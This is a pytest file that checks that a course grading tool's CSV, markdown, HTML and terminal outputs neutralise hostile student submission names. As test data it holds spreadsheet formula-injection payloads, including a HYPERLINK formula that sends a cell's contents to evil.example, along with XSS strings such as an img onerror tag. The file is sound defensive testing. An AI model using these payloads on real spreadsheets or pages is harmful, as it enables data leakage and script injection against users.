"""What people open after grading hostile submissions: nothing in it runs, styles itself or lies.

The submissions of ``tests/corpus/hostile_output`` are graded once by the real ``menace
grade``, each under its own name and, answering rightly, under names that spreadsheets
run as formulas or that are HTML. Then the real outputs are read as their readers read
them: ``grades.csv`` and the CSV exports as a spreadsheet sees cells, the markdown
feedback and Gradescope's ``output`` through a CommonMark parser with raw HTML allowed
(the worst case), the HTML feedback and ``report.html`` through an HTML parser, and
``menace check`` through a real terminal (a pty).
"""

from __future__ import annotations

import csv
import json
import os
import pty
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from grade_support import REPO, RIGHT
from markdown_it import MarkdownIt

from menace_course.exports.gradescope_results import results_json
from menace_course.models import SubmissionReport

pytestmark = [pytest.mark.bwrap, pytest.mark.slow]

CORPUS = REPO / "tests" / "corpus" / "hostile_output"
TEMPLATES = REPO / "feedback_templates"
#: Names a spreadsheet would run (OWASP's list: =, +, -, @, tab, carriage return), and HTML.
FORMULA_NAMES = (
    '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"evil.example?",A1),"click")',  # no "/" in a name
    "+SUM(1,2)",
    "-2+3+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "<img src=x onerror=alert(1)>",
    "x;=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
#: The only headings the markdown feedback has (level 3 "❌ ..." names the first problem).
OUR_HEADINGS = {"Examples from the challenge", "More checks", "Checks that run when your instructor grades"}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """OUT of ``menace grade`` on the whole corpus, under hostile names too."""
    root = tmp_path_factory.mktemp("hostile_output")
    submissions, out = root / "submissions", root / "out"
    submissions.mkdir()
    for path in CORPUS.glob("*.py"):
        shutil.copy(path, submissions / path.name)
    for name in FORMULA_NAMES:
        (submissions / f"{name}.py").write_text(RIGHT, encoding="utf-8")
    argv = [sys.executable, "-m", "menace_course", "grade", str(submissions), "--challenge", "after_game"]
    done = subprocess.run(
        [*argv, "--out", str(out), "--course", str(REPO), "--jobs", "2"],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    return out


def records(out: Path) -> list[dict]:
    return [json.loads(line) for line in (out / "results.jsonl").read_text(encoding="utf-8").splitlines()]


def assert_no_formula(path: Path) -> list[list[str]]:
    """Every cell of a CSV as a spreadsheet sees it: none may start a formula."""
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_START) and not NUMBER.match(cell)), (path.name, cell)
    # every cell is quoted, so a ";" inside one cannot start another where ";" separates:
    # each record (a line outside any quoted cell) starts with a quote
    inside = False
    for line in path.read_text(encoding="utf-8-sig").split("\n"):
        if line and not inside:
            assert line.startswith('"'), line
        inside ^= line.count('"') % 2 == 1
    return rows


def test_grades_csv_cells_never_start_a_formula_and_every_student_is_there(graded: Path) -> None:
    rows = assert_no_formula(graded / "grades.csv")
    students = [row[0] for row in rows[1:]]
    assert len(students) == len(records(graded))
    for name in FORMULA_NAMES:
        shown = name.replace("\t", "\\t").replace("\r", "\\r")
        assert (("'" + shown) if shown.startswith(FORMULA_START) else shown) in students, shown


def export(*args: str) -> subprocess.CompletedProcess[str]:
    argv = [sys.executable, "-m", "menace_course", "export", *args]
    return subprocess.run(argv, capture_output=True, text=True, timeout=120, check=False, cwd=REPO)


def test_the_plain_and_moodle_exports_never_start_a_formula(graded: Path, tmp_path: Path) -> None:
    plain = export("csv", "--results", str(graded), "--out", str(tmp_path / "plain.csv"))
    assert plain.returncode == 0, plain.stderr
    assert_no_formula(tmp_path / "plain.csv")
    moodle = export("moodle", "--results", str(graded), "--out", str(tmp_path / "moodle.csv"))
    assert moodle.returncode == 0, moodle.stderr
    table = assert_no_formula(tmp_path / "moodle.csv")
    identifiers = [row[0] for row in table[1:]]
    assert "'+SUM(1,2)" in identifiers and "'@SUM(A1)" in identifiers
    # Moodle cannot match an escaped identifier: the command says so, naming them
    assert "identifiers start like a spreadsheet formula" in moodle.stderr and "+SUM(1,2)" in moodle.stderr


def test_the_canvas_export_escapes_formulas_but_keeps_numbers_and_dashes(
    graded: Path, tmp_path: Path
) -> None:
    book = tmp_path / "gradebook.csv"
    book.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,MENACE (4567)\n"
        "Points Possible,,,,,15\n"
        '"=HYPERLINK(""http://evil.example/"",""x"")",1,+SUM(1,@evil(A1),x;=1+1,-\n'
        "Plain Name,2,-3,u2,-,7.5\n",
        encoding="utf-8",
    )
    target = tmp_path / "import.csv"
    done = export(
        "canvas", "--results", str(graded), "--gradebook", str(book), "--out", str(target), "--column", "4567"
    )
    assert done.returncode in (0, 1), done.stderr  # these students are not in the class: listed, exit 1
    table = assert_no_formula_but_canvas(target)
    assert table[2][:6] == [
        '\'=HYPERLINK("http://evil.example/","x")',
        "1",
        "'+SUM(1",
        "'@evil(A1)",
        "x;=1+1",
        "-",
    ]
    assert table[3] == ["Plain Name", "2", "-3", "u2", "-", "7.5"]
    assert '"x;=1+1"' in target.read_text(encoding="utf-8")  # a ";" is quoted even in a "," file


def assert_no_formula_but_canvas(path: Path) -> list[list[str]]:
    """Like :func:`assert_no_formula`, for Canvas's own format (quoted only where needed)."""
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_START) and not NUMBER.match(cell) and cell != "-"), cell
    return rows


# -- markdown -------------------------------------------------------------------------------


def check_markdown(text: str, passed: bool) -> None:
    """Parse like a CommonMark renderer that allows raw HTML: only our structure may come out."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = parser.parse(text)
    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in (t.children or [])}
    assert not kinds & {"html_block", "html_inline", "link_open", "image"}, kinds
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    levels = [t.tag for t in tokens if t.type == "heading_open"]
    assert levels[0] == "h2" and levels.count("h2") == 1, headings
    for heading, level in zip(headings[1:], levels[1:], strict=True):
        assert level == "h3" and (heading in OUR_HEADINGS or heading.startswith("❌ ")), heading
        assert "✅" not in heading and "checks pass" not in heading, heading
    inline = [t.children or [] for t in tokens]
    bold = [kids[i + 1].content for kids in inline for i, c in enumerate(kids) if c.type == "strong_open"]
    assert len(bold) == 1 and ("passes all" in bold[0]) == passed, bold  # our verdict, and only it
    html = parser.render(text)
    assert "<img" not in html and "<script" not in html


def test_markdown_feedback_keeps_student_text_inside_its_fences(graded: Path) -> None:
    for record in records(graded):
        key = record["grading"]["key"]
        text = (graded / "feedback" / f"{key}.md").read_text(encoding="utf-8")
        check_markdown(text, record["passed"])


def test_gradescope_output_in_markdown_is_just_as_safe(graded: Path) -> None:
    for record in records(graded):
        results = results_json(SubmissionReport.from_dict(record), TEMPLATES, hidden="visible")
        assert results["output_format"] == "md"
        check_markdown(results["output"], record["passed"])
        for test in results["tests"]:
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", test["output"]), test["output"]


def test_the_forged_fence_is_shown_as_printed_text(graded: Path) -> None:
    text = (graded / "feedback" / "md_fence_in_print.md").read_text(encoding="utf-8")
    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
    fences = [t.content for t in tokens if t.type == "fence"]
    assert any("## ✅ All 15 checks pass" in f and "<img src=x onerror" in f for f in fences), fences


def test_function_names_are_code_not_markup(graded: Path) -> None:
    text = (graded / "feedback" / "no_function_markdown_names.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").render(text)
    assert "<code>_after_game_</code>" in html and "<code>www_evil_com</code>" in html
    assert "<strong>" not in html.split("Functions found", 1)[1]


# -- HTML -----------------------------------------------------------------------------------


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]


def tags_of(html: str) -> Tags:
    parser = Tags()
    parser.feed(html)
    return parser


def test_html_feedback_and_the_class_report_hold_no_student_markup(graded: Path) -> None:
    pages = [graded / "report.html", *(graded / "feedback").glob("*.html")]
    assert len(pages) == len(records(graded)) + 1
    for page in pages:
        found = tags_of(page.read_text(encoding="utf-8"))
        assert not {"img", "script", "iframe"} & set(found.tags), (page.name, found.tags)
        assert not found.handlers, page.name


def test_html_feedback_keeps_the_line_breaks_of_what_it_shows(graded: Path) -> None:
    html = (graded / "feedback" / "md_fence_in_print.html").read_text(encoding="utf-8")
    block = html.split("<pre>", 1)[1].split("</pre>", 1)[0]
    assert re.search(r"got: .*\nfirst difference: position 4", block), block


# -- the terminal ---------------------------------------------------------------------------


def on_a_terminal(*args: str) -> bytes:
    """What ``menace`` writes to a real terminal (a pty), as the terminal receives it."""
    controller, terminal = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "menace_course", *args], stdout=terminal, stderr=terminal, cwd=REPO
    )
    os.close(terminal)
    received = b""
    while True:
        try:
            chunk = os.read(controller, 65536)
        except OSError:  # the other end closed
            break
        if not chunk:
            break
        received += chunk
    process.wait(timeout=60)
    os.close(controller)
    return received


@pytest.mark.parametrize("name", ["terminal_escapes", "md_names_in_exception", "md_at_load"])
def test_a_terminal_receives_no_escape_but_our_own_colours(name: str) -> None:
    received = on_a_terminal("check", str(CORPUS / f"{name}.py"), "--challenge", "after_game")
    text = received.decode("utf-8")
    escapes = set(re.findall(r"\x1b\[[0-9;?]*[A-Za-z]", text))
    assert escapes <= {"\x1b[1;31m", "\x1b[32m", "\x1b[2m", "\x1b[0m"}, escapes  # rich's marks only
    assert "\x1b]" not in text and "\r" not in text.replace("\r\n", "")
    plain = re.sub(r"\x1b\[[0-9;]*m", "", text)
    assert not any(line.startswith("✓ after_game passes") for line in plain.splitlines())


def test_lone_surrogates_are_shown_as_escapes_not_a_crash(graded: Path) -> None:
    record = next(r for r in records(graded) if r["grading"]["student"] == "lone_surrogates")
    assert record["status"] == "checked"
    text = (graded / "feedback" / "lone_surrogates.md").read_text(encoding="utf-8")
    assert "\\udfff raised" in text and "\\ud800 printed" in text
    got = [t["detail"]["got"] for t in record["tests"] if t["detail"] and t["detail"]["got"]]
    assert got and all(g == "<Odd: \\udcff odd>" for g in got), got
